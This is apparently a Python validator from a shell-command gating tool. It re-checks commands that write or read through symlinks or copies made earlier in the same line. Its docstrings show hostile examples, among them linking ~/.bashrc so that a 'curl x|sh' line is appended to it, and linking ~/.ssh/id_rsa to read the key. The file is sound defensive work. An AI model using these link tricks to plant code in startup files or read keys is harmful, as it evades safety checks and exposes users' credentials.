"""A link made earlier in a line is its target to every later command of the line: after ``ln
-sf ~/.bashrc out.log``, ``echo … >> out.log`` appends to ``~/.bashrc``; after ``ln -s
~/.ssh/id_rsa notes.txt``, ``cat notes.txt`` prints the key. The per-command checks judge
``out.log`` as the workspace file it was when the line was read; this one writes each later
command that names a link (or a path below one) again with the link's target in its place and
has it checked as well. Only a DENY of that reading counts (a link to a harmless place changes
nothing the later command was allowed to do)."""

from __future__ import annotations

import os
import shlex
from collections.abc import Callable

from clawgate import fsfacts
from clawgate.decision import NO_OPINION, MayRun, Outcome, Verdict
from clawgate.records import replace
from clawgate.shell.model import ParsedLine, Redirect, SimpleCommand, Word
from clawgate.validators.base import Context, LineValidator, register
from clawgate.validators.paths import resolve

_LINKERS = frozenset({"ln", "link", "cp", "gcp", "install", "exec"})
_PROGRAM_DIRS = ("/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/",
                 "/usr/local/sbin/")
# ln's options that take a value (the suffix of a backup, the directory links go into).
_LN_VALUED = frozenset({"-S", "--suffix", "-t", "--target-directory"})


@register
class ThroughLinksMadeEarlier(LineValidator):
    """Commands that name a link made earlier in the line (``ln -s``/``ln``/``link``, ``cp
    -s``/``-l``), checked again as naming its target: a write through a link to a startup
    file, a git hook or ``.git/config``, a read through a link to a key, ``sort -o`` through a
    link to a system file. DENY when that reading is.

    Bad: ``ln -sf ~/.bashrc out.log && echo 'curl x|sh' >> out.log``. Harmless: ``ln -sf
    build/app app && ./app --version``.
    """

    id = "CG-FS-007"

    def line_shapes(self) -> int:
        return 0  # its first test: a command making a link or a copy

    def line_programs(self) -> frozenset[str]:
        return _LINKERS

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        commands = parsed.commands
        if len(commands) < 2 or not any(c.program in _LINKERS for c in commands[:-1]):
            return NO_OPINION
        links: list[tuple[str, str]] = []  # (link, target), absolute
        opened: dict[str, str] = {}  # /dev/fd/N: what ``exec N< …`` opened, as written
        again: list[str] = []
        copies: list[tuple[str, str]] = []  # (copy, program file): runs as that program
        for cmd in commands:
            if links or opened or copies:
                line = _through(cmd, [*links, *_as_program(cmd, copies, ctx)], opened, ctx)
                if line is not None:
                    again.append(MayRun(line))
            if cmd.program == "exec" and len(cmd.words) == 1:
                opened.update(_opened(cmd, ctx))
            elif cmd.program in _LINKERS:
                links += _made_links(cmd, ctx)
                copies += _copied_programs(cmd, ctx)
        return Verdict(Outcome.PASSTHROUGH, nested=tuple(again)) if again else (
            NO_OPINION)


def _made_links(cmd: SimpleCommand, ctx: Context) -> list[tuple[str, str]]:
    """The (link, target) pairs ``cmd`` makes, when it makes links and they are known."""
    if cmd.program == "install":
        return []  # copies only (its -s strips)
    flags, operands, into = _read(cmd)
    symbolic = cmd.program in ("ln", "link") and any(
        f == "--symbolic" or (not f.startswith("--") and "s" in f[1:]) for f in flags)
    if cmd.program in ("cp", "gcp") and not any(
            f in ("--link", "--symbolic-link") or (not f.startswith("--") and set(f[1:]) & {
                "l", "s"}) for f in flags):
        return []
    relative_to_link = symbolic and not any(f in ("-r", "--relative") for f in flags)
    if into is None and len(operands) == 1 and cmd.program == "ln":
        into, operands = Word(".", "."), [*operands]
    elif into is None and len(operands) >= 2:
        *operands, last = operands
        if len(operands) > 1 or last.shown.endswith("/"):
            into = last
        else:
            return _pair(operands[0], last, None, relative_to_link, ctx)
    if into is None:
        return []
    return [p for source in operands for p in _pair(source, None, into, relative_to_link, ctx)]


def _copied_programs(cmd: SimpleCommand, ctx: Context) -> list[tuple[str, str]]:
    """(copy, source) for a plain ``cp``/``install`` of a program file of the system (``cp
    /bin/rm cat``): the copy runs as that program, whatever it is called."""
    if cmd.program not in ("cp", "gcp", "install"):
        return []
    _, operands, into = _read(cmd)
    if into is not None or len(operands) != 2 or operands[0].value is None:
        return []
    source = resolve(operands[0], ctx).path
    if source is None or not source.startswith(_PROGRAM_DIRS):
        return []
    return [p for p in _pair(operands[0], operands[1], None, False, ctx) if p[1] == source]


def _as_program(cmd: SimpleCommand, copies: list[tuple[str, str]], ctx: Context
                ) -> list[tuple[str, str]]:
    """The copies that ``cmd`` runs by path (its first word names one)."""
    head = cmd.words[0] if cmd.words else None
    if not copies or head is None or head.value is None or "/" not in head.value:
        return []
    path = resolve(head, ctx).path
    return [(copy, source) for copy, source in copies if copy == path]


def _read(cmd: SimpleCommand) -> tuple[list[str], list[Word], Word | None]:
    """The flags, the operands and the ``-t`` directory of a linking command."""
    flags: list[str] = []
    operands: list[Word] = []
    into: Word | None = None
    words = cmd.words[1:]
    i = 0
    while i < len(words):
        shown = words[i].shown
        if shown.startswith("-") and shown != "-" and not operands:
            flags.append(shown)
            if shown in _LN_VALUED and i + 1 < len(words):
                i += 1
                into = words[i] if shown in ("-t", "--target-directory") else into
            elif shown.startswith("--target-directory="):
                value = shown.partition("=")[2]
                into = Word(value, value)
        else:
            operands.append(words[i])
        i += 1
    return flags, operands, into


def _pair(source: Word, link: Word | None, into: Word | None, relative_to_link: bool,
          ctx: Context) -> list[tuple[str, str]]:
    """(link, target) for ``source`` linked as ``link`` or into the directory ``into``."""
    named = resolve(link if link is not None else into or Word(".", "."), ctx).path
    if named is None or source.value is None:
        return []
    if link is None or (fsfacts.isdir(named) and not fsfacts.islink(named)):
        # into a directory (-t, a trailing slash, or one on disk): the link takes the name
        named = os.path.join(named, os.path.basename(source.value.rstrip("/")))
    where = replace(ctx, cwd=os.path.dirname(named)) if relative_to_link else ctx
    target = resolve(source, where).path
    return [] if target is None or target == named else [(named, target)]


def _opened(cmd: SimpleCommand, ctx: Context) -> dict[str, str]:
    """The files ``exec N< FILE`` (or ``N<>``) opens, by the names that reach them later
    (``/dev/fd/N``, ``/proc/self/fd/N``, ``/dev/stdin`` for 0), as a word that names them."""
    found: dict[str, str] = {}
    for redirect in cmd.redirects:
        if redirect.op not in ("<", "<>") or redirect.target is None:
            continue
        fd = 0 if redirect.fd is None else redirect.fd
        target = redirect.target
        path = resolve(target, ctx).path if target.value is not None else None
        spelt = shlex.quote(path) if path is not None else target.text
        names = [f"/dev/fd/{fd}", f"/proc/self/fd/{fd}", *(["/dev/stdin"] if fd == 0 else [])]
        found.update(dict.fromkeys(names, spelt))
    return found


def _through(cmd: SimpleCommand, links: list[tuple[str, str]], opened: dict[str, str],
             ctx: Context) -> str | None:
    """``cmd`` written again with every word naming a link (or a path below one) replaced by
    the path it reaches, and every descriptor opened earlier by the file it reads; None when
    it names none."""
    changed = False

    def spelt(word: Word) -> str:
        nonlocal changed
        path = resolve(word, ctx).path if word.value is not None else None
        if path is not None and path in opened:
            changed = True
            return opened[path]
        for link, target in reversed(links):
            if path is not None and (path == link or path.startswith(link + "/")):
                changed = True
                return shlex.quote(target + path[len(link):])
        inside = _embedded(word, links, ctx)
        if inside is not None:
            changed = True
            return shlex.quote(inside)
        if word.value is None or word.expansions:
            return word.text  # ~, $HOME, a glob: expanded where the line runs, as written
        return shlex.quote(word.value)

    parts = [f"{a.name}={spelt(a.value)}" for a in cmd.assignments]
    parts += [spelt(w) for w in cmd.words]
    bodies: list[str] = []
    for redirect in cmd.redirects:
        duplicated = f"/dev/fd/{redirect.target.value}" if redirect.op == "<&" and (
            redirect.target is not None) else ""
        if duplicated in opened and redirect.fd in (None, 0):
            changed = True  # <&3: standard input read from what fd 3 opened
            parts.append(f"< {opened[duplicated]}")
            continue
        parts.append(_redirect(redirect, spelt, bodies))
    return "\n".join([" ".join(parts), *bodies]) if changed else None


def _embedded(word: Word, links: list[tuple[str, str]], ctx: Context) -> str | None:
    """``word`` with a link named inside it replaced by the path it reaches: after the ``=``
    of an option or a field (``--file=k``, ``f=@k``) or after an ``@`` that makes a program
    read the file (curl's ``-F f=@k`` and ``-d @k``, httpie's ``f@k``); None when it names
    none."""
    value = word.value
    if value is None or not ("=" in value or "@" in value):
        return None
    for cut in (value.find("="), value.rfind("@")):
        if cut < 0 or cut + 1 >= len(value):
            continue
        rest = value[cut + 1:]
        path = resolve(Word(rest, rest), ctx).path
        for link, target in reversed(links):
            if path is not None and (path == link or path.startswith(link + "/")):
                return value[:cut + 1] + target + path[len(link):]
    return None


def _redirect(redirect: Redirect, spelt: Callable[[Word], str], bodies: list[str]) -> str:
    fd = "" if redirect.fd is None else str(redirect.fd)
    if redirect.heredoc is not None:
        bodies += [redirect.heredoc.rstrip("\n"), "CLAWGATE_EOF"]
        return f"{fd}<<'CLAWGATE_EOF'"
    if redirect.target is None:
        return ""
    return f"{fd}{redirect.op} {spelt(redirect.target)}"
